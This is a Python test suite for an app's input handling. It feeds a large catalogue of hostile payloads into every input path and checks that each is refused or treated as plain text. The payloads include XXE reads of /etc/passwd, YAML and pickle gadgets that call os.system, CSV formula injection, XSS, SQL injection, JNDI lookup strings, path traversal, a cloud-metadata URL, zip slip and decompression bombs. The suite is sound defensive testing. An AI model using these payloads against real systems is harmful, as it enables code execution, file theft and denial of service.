"""Hostile inputs at every door: each is refused with a sentence or taken as plain text; nothing is run, fetched, unpickled or read."""

import json
import pickle
import socket
import struct
import zlib

import pandas as pd
import pytest
from pydantic import ValidationError

from components.data.archives import read_archive
from components.data.condition import Clause, Condition
from components.data.contract.reading import from_odcs
from components.data.sources import allowed, read
from components.deployment.reading import read_plan_file
from components.errors import BadInput
from components.project import madr
from components.project.backup import restore
from components.project.exchange import import_, read_document
from components.project.target import Target
from components.scoping import board_file, milestone_files, prior_work_exchange
from components.scoping.assessment.ethics import read_list
from components.scoping.pasted import guarded
from components.scoping.records import Problem
from tests.hostile.watch import CANARY, Evil, nothing_is_done, zipped


def huge_picture():
    """A PNG of a few bytes that says it is 60,000 × 60,000."""

    def part(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"\0" * 1000)) + part(b"IEND", b"")


LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(9))
TEXTS = {
    "xml bomb": '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><l>&b;</l>',
    "xml file": '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>',
    "yaml bomb": LAUGHS,
    "yaml program": f'!!python/object/apply:os.system ["touch {CANARY}"]',
    "yaml name": "x: !!python/name:os.system",
    "yaml module": "!!python/object/new:subprocess.Popen [[touch, x]]",
    "yaml deep": "{a: " * 3000 + "1" + "}" * 3000,
    "yaml merge": "a: &a {x: 1}\nb: {<<: *a, <<: *a}\n",
    "json deep": "[" * 100_000,
    "json deep objects": '{"a":' * 20_000,
    "json huge number": '{"format": "groundwork-project", "version": 1e999}',
    "json long number": '{"a": ' + "9" * 6000 + "}",
    "json not a number": '{"format": "groundwork-project", "version": NaN}',
    "json twice": '{"format": "groundwork-project", "format": 5}',
    "json null": "null",
    "json proto": '{"__proto__": {"x": 1}, "constructor": {}}',
    "nul": "statement\nx\x00y\n",
    "surrogate": "title\n\udc80\n",
    "override": "title\n\u202egnp.exe\n",
    "formula": "statement\n=cmd|' /C calc'!A0\n@SUM(A1)\n+1+1\n-2+3\n",
    "hyperlink": 'title\n"=HYPERLINK(""http://127.0.0.1:9/?x="" & A1)"\n',
    "script": "title\n<script>fetch('http://127.0.0.1:9')</script>\n",
    "picture": "title\n<img src=x onerror=alert(1)>\n",
    "markdown": "title\n[x](javascript:alert(1)) ![x](http://127.0.0.1:9/x.png) $\\href{javascript:x}{x}$\n",
    "sql": "title\n'; DROP TABLE record; --\n",
    "duckdb file": "title\nread_csv('/etc/passwd')\n",
    "duckdb copy": "title\nCOPY (SELECT 1) TO '/tmp/groundwork-canary'\n",
    "duckdb install": "title\nINSTALL httpfs; LOAD httpfs; SELECT * FROM 'http://127.0.0.1:9/x.parquet'\n",
    "template": "title\n{{ 7 * 7 }}{% import os %}\n",
    "format": "title\n%s%n%x {0.__class__.__mro__} ${jndi:ldap://127.0.0.1:9/x}\n",
    "path": "../../../../../../etc/passwd",
    "address": "file:///etc/passwd",
    "metadata": "http://169.254.169.254/latest/meta-data/",
    "long line": "x" * 1_000_000,
    "many columns": ",".join(f"c{i}" for i in range(20_000)) + "\n" + ",".join(["1"] * 20_000) + "\n",
    "open quote": 'title,score\n"never closed,1\n' + "x,1\n" * 100,
    "ragged": "a,b\n1\n1,2,3\n",
    "regex": "title\n" + "a" * 5000 + "!\n",
    "pickle text": pickle.dumps(Evil(), 0).decode("latin-1"),
}
BYTES = {
    "pickle": pickle.dumps(Evil()),
    "npy": b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + b" " * 60 + b"\n" + pickle.dumps([Evil()]),
    "joblib": b"\x80\x04" + b"cos\nsystem\n(S'touch x'\ntR.",
    "parquet": b"PAR1" + b"\xff" * 200 + b"PAR1",
    "parquet long": b"PAR1" + b"\0" * 50 + b"\xff\xff\xff\x7f" + b"PAR1",
    "gzip": zlib.compress(b"\0" * 10_000_000),
    "elf": b"\x7fELF" + b"\0" * 100,
    "not utf-8": b"title\n\xff\xfe\xfa\n",
    "utf-16": "title\nx\n".encode("utf-16"),
    "empty": b"",
    "zip of nothing": zipped({}),
    "zip slip": zipped({"../../outside.png": b"x", "manifest.csv": "path\n../../outside.png\n"}),
    "zip absolute": zipped({"/etc/passwd": b"x", "manifest.csv": "path\n/etc/passwd\n"}),
    "zip windows": zipped({"..\\..\\outside.png": b"x"}),
    "zip bomb": zipped({"a/b.png": b"\0" * 60_000_000}),
    "zip in zip": zipped({"a/inner.zip": zipped({"b/c.png": b"\0" * 1_000_000})}),
    "zip huge picture": zipped({"a/x.png": huge_picture(), "b/y.png": huge_picture()}),
    "zip pickle": zipped({"a/x.pkl": pickle.dumps(Evil()), "b/y.npy": b"\x93NUMPY"}),
    "zip script": zipped({"a/<script>.png": b"x", "b/$(touch x).png": b"x"}),
    "zip svg": zipped({"a/x.svg": "<svg onload='alert(1)'/>", "b/y.svg": "<svg/>"}),
}
ALL = {**{name: text.encode("utf-8", "surrogatepass") for name, text in TEXTS.items()}, **BYTES}


def words_of(content):
    return content.decode("utf-8", "surrogateescape")


def doors(store, files, project, folder):
    """Every way by which somebody's file or text comes in, by its name."""
    plan = folder / "plan.yaml"

    def planned(content):
        plan.write_bytes(content)
        return read_plan_file(plan)

    def restored(content):
        (folder / "backup.zip").write_bytes(content)
        return restore(store, files, folder / "backup.zip")

    return {
        "csv": lambda content: read("x.csv", content),
        "json lines": lambda content: read("x.jsonl", content),
        "parquet": lambda content: read("x.parquet", content),
        "archive": lambda content: read_archive("x.zip", content),
        "contract": lambda content: from_odcs(words_of(content)),
        "plan": planned,
        "project": lambda content: import_(store, files, read_document(content), "eve"),
        "board": lambda content: board_file.read("x.csv", words_of(content)),
        "prior work": lambda content: prior_work_exchange.read("x.csv", words_of(content)),
        "prior work as JSON": lambda content: prior_work_exchange.read("x.json", words_of(content)),
        "milestones": lambda content: milestone_files.from_file("x.csv", content),
        "milestones as JSON": lambda content: milestone_files.from_file("x.json", content),
        "decisions": lambda content: madr.from_file("x.md", content),
        "decisions as zip": lambda content: madr.from_file("x.zip", content),
        "questions": lambda content: read_list("x.csv", words_of(content)),
        "backup": restored,
        "project's name": lambda content: store.rename_project(project.id, words_of(content), "eve"),
        "person's name": lambda content: store.name_person("eve", words_of(content)),
        "invitation": lambda content: store.accept(words_of(content), "eve"),
        "project's address": lambda content: store.project(words_of(content)),
        "record": lambda content: store.save(project.id, Problem(statement=words_of(content)[:500]), person="eve"),
        "record's address": lambda content: store.save(project.id, Target(value=0.5), person="eve", id=words_of(content)),
        "path on the server": lambda content: allowed(words_of(content), (folder,)),
        "condition": lambda content: Condition(clauses=(Clause(column="x", operator="contains", value=words_of(content)[:2000]),)).on_frame(
            pd.DataFrame({"x": ["a", "b"], words_of(content)[:40] or "y": [1, 2]})
        ),
    }


@pytest.mark.parametrize("name", ALL)
def test_no_door_lets_it_in(store, files, project, tmp_path, name):
    content, taken = ALL[name], 0
    for door, enter in doors(store, files, project, tmp_path).items():
        with nothing_is_done():
            try:
                enter(content)
            except BadInput as error:
                said = str(error)
                assert 10 < len(said) < 2000, (door, said[:100])
                assert "Traceback" not in said
                assert "root:" not in said
            except ValidationError:
                pass  # a body that can't be: its form says so field by field
        taken += 1
    assert taken > 20
    assert store.project(project.id) is not None
    assert list(tmp_path.parent.rglob("outside*")) == []


@pytest.mark.parametrize("text", [text for name, text in TEXTS.items() if name in {"formula", "hyperlink", "duckdb copy", "path"}])
def test_no_cell_that_goes_out_is_a_formula(text):
    for line in text.splitlines():
        assert guarded(line)[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_the_watch_hears_what_it_should():
    with pytest.raises(AssertionError), nothing_is_done():
        pickle.loads(pickle.dumps(Evil()))
    with pytest.raises(AssertionError), nothing_is_done():
        socket.getaddrinfo("localhost", 9)


def test_json_of_any_size_is_refused_before_it_is_built():
    with pytest.raises(BadInput):
        read_document(json.dumps({"a": 1})[:-1] + ", " + "[" * 50_000)
